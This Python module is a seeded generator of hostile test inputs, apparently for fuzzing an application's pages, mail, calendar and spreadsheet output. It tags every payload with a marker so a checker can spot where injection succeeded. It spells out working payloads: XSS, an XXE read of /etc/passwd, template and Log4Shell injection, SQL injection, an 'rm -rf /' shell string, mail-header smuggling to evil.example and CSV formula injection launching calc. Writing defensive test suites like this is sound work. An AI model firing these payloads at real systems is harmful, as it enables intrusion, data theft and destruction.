"""Hostile texts, by chance from a seed: what breaks pages, mails, calendars, tables, papers, logs or a parser.

Each carries a mark that stands nowhere else, so that a checker can tell where a text of a person became something else.
"""

import random
from collections.abc import Iterator

MARK = "kwetter"
"""Stands in everything hostile and nowhere else: in our database and on pages it may be, in a log never."""

ELEMENT = f"x-{MARK}"
"""An element and an attribute of a page that only an injection can bring about."""

HEADER = f"X-{MARK.title()}"
"""A header of a mail or an answer, and a property of a calendar, that only an injection can bring about."""

LINK = f"https://{MARK}.example/"
"""Where no link of a paper, a mail or a feed may lead."""

PRODUCT = 7919 * 7907
SUM = "7919*7907"
"""What a template language would compute: the product stands in no text of ours."""

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", " =", "'=", "\ufeff=", "|", "%")

_MARKUP = (
    f"<{ELEMENT} {ELEMENT}=1>",
    f"<script>{MARK}()</script><{ELEMENT}>",
    f"</script><{ELEMENT}>",
    f"</textarea></title></style></select><{ELEMENT}>",
    f'"><img src=x onerror={MARK}()><{ELEMENT}>',
    f"'><svg/onload={MARK}()><{ELEMENT}>",
    f'" {ELEMENT}=1 onfocus={MARK}() autofocus x="',
    f"' {ELEMENT}=1 onmouseover={MARK}() x='",
    f" {ELEMENT}=1 onmouseover={MARK}()",
    f"`{ELEMENT}=1` onmouseover={MARK}() ",
    f"javascript:{MARK}()//<{ELEMENT}>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={MARK}() )//%0D%0A//</stYle/</titLe/--!>\\x3csVg/<sVg/oNloAd=1//>",
    f"data:text/html,<{ELEMENT}>",
    f"<!--><{ELEMENT}>-->",
    f"<![CDATA[<{ELEMENT}>]]>",
    f"&lt;{ELEMENT}&gt; &#60;{ELEMENT}&#62; \\u003c{ELEMENT}\\u003e",
    f"]]><{ELEMENT}/>",
    f'<!DOCTYPE x [<!ENTITY {MARK} SYSTEM "file:///etc/passwd">]><x>&{MARK};</x>',
    f"<base href={LINK}><meta http-equiv=refresh content=0;url={LINK}><{ELEMENT}>",
    f"[{MARK}](javascript:{MARK}()) ![{MARK}]({LINK})",
    f"{LINK}?{MARK} http://{MARK}.example www.{MARK}.example",
)
_TEMPLATES = (
    f"{{{{ {SUM} }}}} {MARK}",
    f"{{% for x in ().__class__.__base__.__subclasses__() %}}{MARK}{{% endfor %}}",
    f"${{{SUM}}} #{{{SUM}}} <%= {SUM} %> {MARK}",
    f'#eval("{SUM}") #link("{LINK}")[{MARK}] $ {SUM} $',
    f'#image("/etc/passwd") #include "../../../../etc/passwd" {MARK}',
    f"{{person.token}} {{0.__class__}} {{}} {{!r}} %s %(x)s {MARK}",
    f"${{jndi:ldap://127.0.0.1/{MARK}}}",
    f'{{"__prefect_kind": "workspace_variable", "variable_name": "{MARK}"}}',
)
_STATEMENTS = (
    f"'; DROP TABLE submission; -- {MARK}",
    f"{MARK}' OR '1'='1",
    f"{MARK}\\'; SELECT pg_sleep(9); --",
    f"%_{MARK}%\\_ * ? [a-z",
    f'{MARK}" NEAR/2 AND NOT ( * ^ :',
    f"; rm -rf / #{MARK} `id` $(id) | id & id",
)
_LINES = (
    f"{MARK}\r\n{HEADER}: 1\r\nBcc: {MARK}@evil.example\r\n\r\n<{ELEMENT}>",
    f"{MARK}\n{HEADER}: 1",
    f"{MARK}\r{HEADER}: 1",
    f"=?utf-8?q?=0D=0ABcc:_{MARK}@evil.example?= {MARK}",
    f"=?utf-8?b?DQpYLUt3ZXR0ZXI6IDE=?= {MARK}",
    f"{MARK}\u2028{HEADER}: 1\u2029{HEADER}: 2\x85{HEADER}: 3\x0b{HEADER}: 4\x0c{HEADER}: 5\x1e{HEADER}: 6",
    f"{MARK}%0d%0a{HEADER}:1%00",
    f"{MARK}\r\n.\r\nMAIL FROM:<{MARK}@evil.example>\r\n",
    f"{MARK}\nATTENDEE:mailto:{MARK}@evil.example\n{HEADER}:1",
    f"{MARK}\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM\r\nBEGIN:VEVENT\r\n",
    f"{MARK}\\nATTENDEE:mailto:{MARK}@evil.example\\;\\,{HEADER}:1",
    f'{MARK};{HEADER}=1:2,"3"',
    f'{MARK}\n{{"event": "{MARK}", "level": "critical"}}',
    f"{MARK}@evil.example>, <{MARK}@evil.example",
    f"{MARK}@evil.example\r\nRCPT TO:<{MARK}@evil.example>",
    f'"{MARK}@evil.example" <p@school.example>',
)
_CHARACTERS = (
    f"{MARK}\x00\x01\x08\x1b[31m\x7f\x9b31m",
    f"{MARK}\ud800\udfff\udbff",
    f"{MARK}\udcff\udcfe\udcc0\udcaf",
    f"\ufeff{MARK}\u202e\u2066\u2067\u200f\u061c\ufffe\uffff\ufdd0",
    f"{MARK}\u0000\u200b\u200c\u200d\u2060\u00ad\u034f",
    f"{MARK} \U0001f9c0\u200d\U0001f468\U0001f3fd\u200d\U0001f4bb \U0010ffff\U000e0041",
    f"{MARK}" + "\u0301" * 400,
    f"ﬃ İıſK Å ß {MARK}".upper(),
    f"مرحبا {MARK} שלום",
    f"{MARK}\u0e33\u0f71\u1160\u115f\u3164",
)
_NUMBERS = (
    "9" * 400,
    "-1e309",
    "1e-400",
    "NaN",
    "Infinity",
    "-0",
    "0x7fffffff",
    "9223372036854775808",
    "1_000",
    "١٢٣",
    "½",
    "1,2.3,4",
    "  ",
    "",
)
_MOMENTS = (
    "2026-13-45",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "-0001-01-01",
    "2026-02-29",
    "2026-03-29T02:30",
    "2026-12-01T25:61",
    "9999-12-31T23:59",
    "1-1-1",
    "31.12.99",
    "2026-12-01T13:30+25:00",
    "99:99",
    "24:00",
    "2026-W53-7",
)
_NAMES = (
    f"../../../../etc/{MARK}",
    f"..\\..\\{MARK}.jpg",
    f"/etc/{MARK}",
    f"C:\\{MARK}.jpg:stream",
    f"{MARK}\x00.jpg",
    f"%2e%2e%2f{MARK}",
    f"{MARK}.jpg.exe",
    "CON",
    ".",
    "..",
    f".htaccess{MARK}",
    f'{MARK}"; filename="x.html',
    f"{MARK}.svg",
    f"{MARK}\u202egpj.exe",
    f"a/{MARK}/" * 40,
)
_OBJECTS = (
    "null",
    "undefined",
    "[object Object]",
    "true",
    "[]",
    '{"$ne": 1}',
    f"!!python/object/apply:os.system [{MARK}]",
    f"&a [*a, *a] {MARK}",
    f"{MARK}: [1, {{2: 3}}]",
    "on",
    "yes",
    "__proto__",
    "constructor",
    "self",
    "_key",
)
FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": _MARKUP,
    "templates": _TEMPLATES,
    "statements": _STATEMENTS,
    "lines": _LINES,
    "characters": _CHARACTERS,
    "numbers": _NUMBERS,
    "moments": _MOMENTS,
    "names": _NAMES,
    "objects": _OBJECTS,
    "formulas": tuple(f"{sign}1+1*cmd|' /C calc'!A0&HYPERLINK(\"{LINK}\") {MARK}" for sign in FORMULAS),
}
STORED = tuple(
    shape
    for family in ("markup", "templates", "lines", "formulas", "characters", "statements", "names")
    for shape in FAMILIES[family]
)
"""Those that somebody could get kept: they carry the mark."""

LONG = 3000
HUGE = 70_000


class Hostile:
    """Hands out hostile texts; the same seed hands out the same."""

    def __init__(self, seed: int) -> None:
        self.chance = random.Random(seed)
        self._all = [shape for shapes in FAMILIES.values() for shape in shapes]

    def one(self) -> str:
        """Return a text: one of a family, sometimes two together, twisted or very long."""
        chance = self.chance
        shape = chance.choice(self._all)
        twist = chance.randrange(24)
        if twist == 0:
            return shape + chance.choice(self._all)
        if twist == 1:
            return (shape + MARK + " ") * (1 + LONG // (len(shape) + 8))
        if twist == 2:
            return f"{MARK} " + chance.choice("A<'\"&= \u0301\U0001f9c0") * HUGE
        if twist == 3:
            return "".join(chance.choice((str.upper, str.lower, str.title, str))(one) for one in shape)
        if twist == 4:
            return "".join(chr(chance.randint(*chance.choice(_RANGES))) for _ in range(chance.randrange(1, 60))) + MARK
        if twist == 5:
            return chance.choice(("  ", "\t", "\n", "'", '"', "\\")) + shape
        return shape

    def kept(self, most: int = 10_000) -> str:
        """Return a text that somebody could get kept, of at most so many characters."""
        fitting = [shape for shape in STORED if len(shape) <= most]
        return self.chance.choice(fitting or [f"<{ELEMENT}>"[:most]])

    def several(self, number: int) -> Iterator[str]:
        """Yield so many texts."""
        return (self.one() for _ in range(number))


_RANGES = ((0, 0x20), (0x20, 0x7F), (0x80, 0x2FFF), (0xD800, 0xDFFF), (0x1F000, 0x10FFFF))


def as_bytes(text: str) -> bytes:
    """Return a text as a hostile program writes it on the wire: half characters, and bytes that are no UTF-8."""
    return b"".join(
        bytes([ord(one) - 0xDC00]) if "\udc80" <= one <= "\udcff" else one.encode("utf-8", "surrogatepass")
        for one in text
    )
